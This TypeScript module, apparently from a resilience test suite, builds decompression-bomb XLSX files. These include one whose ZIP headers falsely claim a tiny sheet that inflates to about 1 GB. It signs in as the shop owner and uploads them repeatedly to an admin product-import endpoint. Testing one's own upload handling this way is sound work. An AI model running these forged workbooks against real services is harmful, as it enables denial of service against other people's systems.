import { constants, crc32, deflateRawSync } from 'node:zlib'
import { type Attack, addressOf, repeat } from '../attack.ts'
import { inShort } from '../guest.ts'
import { signInOwner, upload } from '../owner.ts'

const TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
const SHEET = 'xl/worksheets/sheet1.xml'

/** The other files of a workbook with one sheet. */
const FRAME = {
  '[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/${SHEET}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
  '_rels/.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  'xl/workbook.xml': `<workbook xmlns="${MAIN}" xmlns:r="${OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>`,
  'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
}

/** Returns a workbook with a sheet of many equal rows. Its headers claim `claimed` bytes for the sheet, if set. */
function workbookOf(rows: number, claimed?: number): Buffer {
  const row = '<row><c t="inlineStr"><is><t>Brot</t></is></c></row>'
  const sheet = `<worksheet xmlns="${MAIN}"><sheetData>${row.repeat(rows)}</sheetData></worksheet>`
  const files = Object.entries({ ...FRAME, [SHEET]: sheet }).map(([name, text]) => ({
    name: Buffer.from(name),
    content: Buffer.from(XML + text),
    claimed: name === SHEET ? claimed : undefined,
  }))
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const { claimed, content, name } of files) {
    const packed = deflateRawSync(content, { level: constants.Z_BEST_COMPRESSION })
    const sizes = Buffer.alloc(12)
    sizes.writeUInt32LE(crc32(content), 0)
    sizes.writeUInt32LE(packed.length, 4)
    sizes.writeUInt32LE(claimed ?? content.length, 8)
    const fixed = Buffer.from([20, 0, 0, 0, 8, 0, 0, 0, 0x21, 0x5a])
    const names = Buffer.from([name.length, 0, 0, 0])
    const local = [Buffer.from('PK\u0003\u0004'), fixed, sizes, names, name, packed]
    const at = Buffer.alloc(14)
    at.writeUInt32LE(offset, 10)
    directory.push(Buffer.from('PK\u0001\u0002'), Buffer.from([20, 0]), fixed, sizes, names, at, name)
    parts.push(...local)
    offset += local.reduce((sum, { length }) => sum + length, 0)
  }
  const central = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.write('PK\u0005\u0006', 'latin1')
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts, central, end])
}

export const forgedWorkbook: Attack = {
  load: 'workbooks of 60 KB that unpack to 30 MB, and one that claims to be small and unpacks to 1 GB',
  async run(target, times) {
    const cookie = await signInOwner(target)
    const large = workbookOf(500_000)
    const forged = workbookOf(8_000_000, 100)
    return repeat(4 * times, times, async (nth) => {
      const content = nth % 4 === 0 ? forged : large
      const file = { field: 'file', name: 'sortiment.xlsx', type: TYPE, content }
      return inShort(
        await upload(target, { cookie, address: addressOf(nth % times) }, '/admin/products/import', file),
      )
    })
  },
}
